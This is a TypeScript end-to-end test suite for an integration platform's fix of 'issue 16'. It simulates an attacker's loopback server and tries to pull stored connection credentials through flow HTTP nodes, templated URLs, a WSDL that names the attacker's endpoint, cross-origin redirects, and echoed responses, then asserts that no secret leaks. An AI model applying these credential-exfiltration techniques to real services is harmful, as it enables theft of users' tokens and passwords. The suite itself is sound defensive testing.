/**
 * Issue 16 §5, §6 and the low item: a connection's credentials went to any host a flow named (a
 * user with only `flows.run` test-ran an HTTP node with another connection's id against their own
 * server and received its bearer token and Basic credentials; `/soap/describe` likewise), an
 * api_key header followed a redirect to another origin, and live answers echoed secrets.
 * The CRM is a loopback server; "the attacker" is another loopback server (another port: another
 * origin) that records every request it gets.
 */
import { crmWsdl } from '../../../../libs/engine/src/soap/soap.fixtures';
import { LoopbackServer } from '../../../../libs/engine/test/loopback';
import { signInWith } from '../flow-fixtures';
import { TestApp } from '../harness';
import { chainFlow, publishFlow, respondNode } from '../support/triggers';

const C = '/api/v1/connections';
const SECRETS = {
  basic: 'basic-pass-7731',
  bearer: 'bearer-tok-7731',
  keyH: 'key-header-7731',
  keyQ: 'key-query-7731',
  tokenPw: 'token-pass-7731',
  issued: 'issued-tok-7731',
};
const BASIC_B64 = Buffer.from(`agent:${SECRETS.basic}`).toString('base64');
const ALL = [...Object.values(SECRETS), BASIC_B64];

describe("a connection's credentials go to its allowed origins only (issue 16 §5, §6)", () => {
  let t: TestApp;
  let crm: LoopbackServer;
  let attacker: LoopbackServer;
  let runner: string; // flows.run only
  let editor: string; // flows.write only (describe)
  const ids: Record<string, string> = {};

  /** What of the connections' secrets reached the attacker's server. */
  const leaked = () => ALL.filter((s) => JSON.stringify(attacker.seen).includes(s));

  beforeAll(async () => {
    t = await TestApp.start();
    [crm, attacker] = await Promise.all([LoopbackServer.start(), LoopbackServer.start()]);
    const echo = (
      req: import('../../../../libs/engine/test/loopback').SeenRequest,
      res: import('node:http').ServerResponse,
    ) =>
      res
        .writeHead(200, { 'content-type': 'application/json', 'x-echo-auth': String(req.headers.authorization ?? '') })
        .end(JSON.stringify(req));
    for (const s of [crm, attacker]) s.on('/echo', echo);
    crm.on('/redirect', (req, res) => {
      const q = new URL(req.url, 'http://x').searchParams;
      res.writeHead(Number(q.get('s') ?? 302), { location: q.get('to')! }).end();
    });
    crm.on('POST /auth', (req, res) => {
      const ok = JSON.parse(req.body || '{}').password === SECRETS.tokenPw;
      res
        .writeHead(ok ? 200 : 403, { 'content-type': 'application/json' })
        .end(JSON.stringify(ok ? { access_token: SECRETS.issued, expires_in: 600 } : {}));
    });
    // A WSDL on the CRM whose port address is the attacker's (a WSDL may name any address).
    crm.on('/evil.wsdl', (_req, res) =>
      res.writeHead(200, { 'content-type': 'text/xml' }).end(crmWsdl(`${attacker.base}/soap`)),
    );
    attacker.on('/crm.wsdl', (_req, res) =>
      res.writeHead(200, { 'content-type': 'text/xml' }).end(crmWsdl(`${attacker.base}/soap`)),
    );

    const create = async (body: Record<string, unknown>) =>
      (await t.as('post', C).send(body).expect(201)).body as { id: string; allowedOrigins: string[] };
    const base = { fields: { baseUrl: crm.base } };
    ids.basic = (
      await create({ name: 'crm-basic', type: 'basic', username: 'agent', password: SECRETS.basic, ...base })
    ).id;
    ids.bearer = (await create({ name: 'crm-bearer', type: 'bearer', token: SECRETS.bearer, ...base })).id;
    ids.keyH = (
      await create({
        name: 'crm-key-h',
        type: 'api_key',
        placement: 'header',
        paramName: 'X-Crm-Key',
        apiKey: SECRETS.keyH,
        ...base,
      })
    ).id;
    ids.keyQ = (
      await create({
        name: 'crm-key-q',
        type: 'api_key',
        placement: 'query',
        paramName: 'apiKey',
        apiKey: SECRETS.keyQ,
        ...base,
      })
    ).id;
    const token = await create({
      name: 'crm-token',
      type: 'token_endpoint',
      request: {
        method: 'POST',
        url: `${crm.base}/auth`,
        body: { type: 'json', template: '{"password":"{{secrets.password}}"}' },
      },
      tokenPath: 'access_token',
      apply: { in: 'header', name: 'Authorization', prefix: 'Bearer ' },
      secrets: { password: SECRETS.tokenPw },
    });
    expect(token.allowedOrigins).toEqual([crm.base]);
    ids.token = token.id;
    runner = await signInWith(t, ['flows.run']);
    editor = await signInWith(t, ['flows.write']);
  });
  afterAll(async () => {
    await Promise.all([crm?.close(), attacker?.close()]);
    await t?.close();
  });
  beforeEach(() => {
    crm.seen.length = 0;
    attacker.seen.length = 0;
  });

  const ivr = { id: 't', type: 'trigger.ivr', name: 'ivr', config: { deadlineMs: 5000, fallback: {} } };
  const httpNode = (url: string, connectionId: string) => ({
    id: 'h',
    type: 'http',
    name: 'call',
    config: { method: 'GET', url, connectionId },
  });
  const testRun = (definition: unknown, input: Record<string, unknown> = {}) =>
    t.http().post('/api/v1/flows/test-run').set('authorization', `Bearer ${runner}`).send({ definition, input });

  it.each(['basic', 'bearer', 'keyH', 'keyQ', 'token'])(
    '%s: a flows.run user test-running a node at their own server gets no credential ' +
      '(422 when the URL says so, a failed run when a token hides it)',
    async (kind) => {
      const literal = await testRun(chainFlow(ivr, httpNode(`${attacker.base}/echo`, ids[kind]!))).expect(422);
      expect(literal.body.details).toEqual([
        expect.objectContaining({
          nodeId: 'h',
          path: 'config.url',
          message: expect.stringContaining('[CONNECTION_ORIGIN_NOT_ALLOWED]'),
        }),
      ]);
      expect(literal.body.message).toContain(`not to ${attacker.base}`);
      // The target from the input: only the run can tell, and it refuses before anything is sent.
      const hidden = await testRun(chainFlow(ivr, httpNode('{{{call.target}}}/echo', ids[kind]!)), {
        call: { target: attacker.base },
      }).expect(200);
      expect(hidden.body.status).toBe('failed');
      expect(hidden.body.error).toMatchObject({ code: 'CONNECTION_ORIGIN_NOT_ALLOWED', nodeId: 'h' });
      expect(attacker.seen).toEqual([]);
      // Its own origin still works.
      const ok = await testRun(chainFlow(ivr, httpNode(`${crm.base}/echo`, ids[kind]!))).expect(200);
      expect(ok.body.status).toBe('succeeded');
    },
  );

  it('refuses the same at publishing, and in a published flow at run time', async () => {
    const created = await t
      .as('post', '/api/v1/flows')
      .send({
        name: 'steal',
        key: 'steal',
        definition: chainFlow(ivr, httpNode(`${attacker.base}/echo`, ids.bearer!), respondNode('{}')),
      })
      .expect(201);
    const refused = await t.as('post', `/api/v1/flows/${created.body.id}/publish`).send({}).expect(422);
    expect(refused.body.details[0]).toMatchObject({ nodeId: 'h', path: 'config.url' });
    await publishFlow(
      t,
      'steal-hidden',
      chainFlow(
        { ...ivr, config: { deadlineMs: 5000, fallback: { none: true } } },
        httpNode('{{{call.target}}}/echo', ids.bearer!),
        respondNode('{}'),
      ),
    );
    const r = await t
      .http()
      .post('/api/v1/ivr/steal-hidden')
      .set('x-api-key', t.apiKey)
      .send({ call: { target: attacker.base } })
      .expect(200);
    expect(r.body).toMatchObject({
      status: 'failed',
      output: { none: true },
      error: { code: 'CONNECTION_ORIGIN_NOT_ALLOWED' },
    });
    expect(attacker.seen).toEqual([]);
  });

  it('SOAP: the WSDL load and the endpoint the WSDL names are checked; /soap/describe too', async () => {
    const soap = (wsdlUrl: string, connectionId: string) =>
      chainFlow(ivr, {
        id: 's',
        type: 'soap',
        name: 'soap',
        config: { wsdlUrl, operation: 'GetCustomer', args: { phone: '1' }, connectionId },
      });
    // The WSDL at the attacker's: refused before it is loaded with the credentials.
    const atAttacker = await testRun(soap(`${attacker.base}/crm.wsdl`, ids.basic!)).expect(422);
    expect(atAttacker.body.details[0]).toMatchObject({ nodeId: 's', path: 'config.wsdlUrl' });
    // The WSDL at the CRM naming the attacker's address: the call is refused before the envelope goes out.
    const named = await testRun(soap(`${crm.base}/evil.wsdl`, ids.basic!)).expect(200);
    expect(named.body.error).toMatchObject({ code: 'CONNECTION_ORIGIN_NOT_ALLOWED' });
    expect(crm.seen.map((r) => r.url)).toEqual(['/evil.wsdl']);
    expect(attacker.seen).toEqual([]);
    // /soap/describe with a connection (flows.write) against the attacker's WSDL.
    const describe = await t
      .http()
      .post('/api/v1/soap/describe')
      .set('authorization', `Bearer ${editor}`)
      .send({ wsdlUrl: `${attacker.base}/crm.wsdl`, connectionId: 'crm-bearer' })
      .expect(422);
    expect(describe.body.details.code).toBe('CONNECTION_ORIGIN_NOT_ALLOWED');
    expect(attacker.seen).toEqual([]);
    expect(leaked()).toEqual([]);
  });

  it("the connection test loads a wsdlUrl field only on the connection's origins", async () => {
    const c = (
      await t
        .as('post', C)
        .send({
          name: 'soap-elsewhere',
          type: 'bearer',
          token: SECRETS.bearer,
          fields: { wsdlUrl: `${attacker.base}/crm.wsdl` },
          allowedOrigins: [crm.base],
        })
        .expect(201)
    ).body;
    const r = await t.as('post', `${C}/${c.id}/test`).expect(200);
    expect(r.body).toMatchObject({ ok: false, error: { code: 'CONNECTION_ORIGIN_NOT_ALLOWED' } });
    expect(attacker.seen).toEqual([]);
  });

  it.each([301, 302, 303, 307, 308])(
    'a %i from the CRM to another origin carries none of the credentials the connection added',
    async (status) => {
      for (const kind of ['basic', 'bearer', 'keyH', 'keyQ', 'token']) {
        attacker.seen.length = 0;
        const to = `${attacker.base}/echo?apiKey=${SECRETS.keyQ}&x=1`;
        const r = await testRun(
          chainFlow(
            ivr,
            httpNode(
              `${crm.base}/redirect?s=${status}&to=` +
                `${encodeURIComponent(kind === 'keyQ' ? to : `${attacker.base}/echo?x=1`)}`,
              ids[kind]!,
            ),
          ),
        ).expect(200);
        expect([kind, r.body.status]).toEqual([kind, 'succeeded']);
        expect(attacker.seen.map((s) => s.url)).toEqual(['/echo?x=1']);
        expect([kind, leaked()]).toEqual([kind, []]);
      }
    },
  );

  it('a WSDL redirected to another origin is fetched there without the credentials', async () => {
    crm.on('/moved.wsdl', (_req, res) => res.writeHead(302, { location: `${attacker.base}/crm.wsdl` }).end());
    const r = await t
      .http()
      .post('/api/v1/soap/describe')
      .set('authorization', `Bearer ${editor}`)
      .send({ wsdlUrl: `${crm.base}/moved.wsdl`, connectionId: 'crm-key-h' })
      .expect(200);
    expect(r.body.services.length).toBe(1);
    expect(crm.seen[0]!.headers['x-crm-key']).toBe(SECRETS.keyH);
    expect(attacker.seen.map((s) => s.url)).toEqual(['/crm.wsdl']);
    expect(leaked()).toEqual([]);
  });

  describe('the allowed origins of a connection', () => {
    it('are normalised, refused unless origins, required for credentials, must cover the token request', async () => {
      const made = (
        await t
          .as('post', C)
          .send({
            name: 'norm',
            type: 'bearer',
            token: 'x-token-1',
            allowedOrigins: ['HTTPS://CRM.Example.com:443/', 'http://0x7f.1:8080'],
          })
          .expect(201)
      ).body;
      expect(made.allowedOrigins).toEqual(['https://crm.example.com', 'http://127.0.0.1:8080']);
      for (const bad of [
        'https://crm.example.com/api',
        'https://*.example.com',
        'ftp://crm.example.com',
        'crm.example.com',
        'https://u:p@crm.example.com',
      ]) {
        const r = await t
          .as('post', C)
          .send({ name: 'bad', type: 'bearer', token: 'x', allowedOrigins: [bad] })
          .expect(400);
        expect(r.body.details[0]).toMatch(/^allowedOrigins\.0: /);
      }
      const none = await t
        .as('post', C)
        .send({ name: 'no-url', type: 'basic', username: 'u', password: 'p' })
        .expect(400);
      expect(none.body.message).toContain('allowedOrigins: list the origins');
      const tokenElsewhere = await t
        .as('post', C)
        .send({
          name: 'te',
          type: 'oauth2_client_credentials',
          tokenUrl: `${attacker.base}/token`,
          clientId: 'c',
          clientSecret: 's',
          allowedOrigins: [crm.base],
        })
        .expect(400);
      expect(tokenElsewhere.body.message).toBe(
        `allowedOrigins: must include ${attacker.base}, ` +
          `where the connection's token request goes (it carries the connection's secrets)`,
      );
      // A connection without credentials needs none.
      expect((await t.as('post', C).send({ name: 'plain', type: 'none' }).expect(201)).body.allowedOrigins).toEqual([]);
    });

    it('are kept on a PUT that omits them, replaced when given', async () => {
      const c = (
        await t
          .as('post', C)
          .send({ name: 'put-me', type: 'bearer', token: 'p-token-1', allowedOrigins: ['https://a.example.com'] })
          .expect(201)
      ).body;
      const kept = await t
        .as('put', `${C}/${c.id}`)
        .send({ name: 'put-me', type: 'bearer', fields: { baseUrl: 'https://b.example.com' } })
        .expect(200);
      expect(kept.body.allowedOrigins).toEqual(['https://a.example.com']);
      // A new origin takes the secret again (connection-origins-widening.e2e-spec.ts).
      const body = { name: 'put-me', type: 'bearer', token: 'p-token-1', allowedOrigins: ['https://b.example.com'] };
      const replaced = await t.as('put', `${C}/${c.id}`).send(body).expect(200);
      expect(replaced.body.allowedOrigins).toEqual(['https://b.example.com']);
    });
  });
});

describe('live answers carry no secret the run knows (issue 16, low)', () => {
  let t: TestApp;
  let crm: LoopbackServer;
  const TOKEN = 'live-bearer-5521';

  beforeAll(async () => {
    t = await TestApp.start();
    crm = await LoopbackServer.start();
    // An upstream that echoes the Authorization it got, in a header and in the body.
    crm.on('/who', (req, res) =>
      res
        .writeHead(200, { 'content-type': 'application/json', 'x-echo-auth': String(req.headers.authorization) })
        .end(JSON.stringify({ auth: req.headers.authorization })),
    );
    await t
      .as('post', C)
      .send({ name: 'crm', type: 'bearer', token: TOKEN, fields: { baseUrl: crm.base } })
      .expect(201);
  });
  afterAll(async () => {
    await crm?.close();
    await t?.close();
  });

  const call = {
    id: 'h',
    type: 'http',
    name: 'call',
    config: { method: 'GET', url: '{{{connection.baseUrl}}}/who', connectionId: 'crm' },
  };
  const answer = respondNode(
    '{"echo":{{json nodes.call.body}},"header":"{{lookup nodes.call.headers "x-echo-auth"}}"}',
    { headers: [{ name: 'x-upstream-auth', value: '{{lookup nodes.call.headers "x-echo-auth"}}' }] },
  );

  it('the IVR answer is scrubbed', async () => {
    await publishFlow(
      t,
      'echo-ivr',
      chainFlow(
        { id: 't', type: 'trigger.ivr', name: 'ivr', config: { deadlineMs: 5000, fallback: {} } },
        call,
        answer,
      ),
    );
    const r = await t
      .http()
      .post('/api/v1/ivr/echo-ivr')
      .set('x-api-key', t.apiKey)
      .send({ call: { id: '1' } })
      .expect(200);
    expect(r.body.output).toEqual({ echo: { auth: 'Bearer [redacted]' }, header: 'Bearer [redacted]' });
    expect(JSON.stringify(r.body)).not.toContain(TOKEN);
  });

  it('the webhook answer is scrubbed, headers and body', async () => {
    await publishFlow(
      t,
      'echo-hook',
      chainFlow({ id: 't', type: 'trigger.webhook', name: 'hook', config: { methods: ['POST'] } }, call, answer),
    );
    const r = await t.http().post('/api/v1/hooks/echo-hook').set('x-api-key', t.apiKey).send({}).expect(200);
    expect(r.headers['x-upstream-auth']).toBe('Bearer [redacted]');
    expect(r.text).not.toContain(TOKEN);
    expect(JSON.parse(r.text)).toEqual({ echo: { auth: 'Bearer [redacted]' }, header: 'Bearer [redacted]' });
  });
});
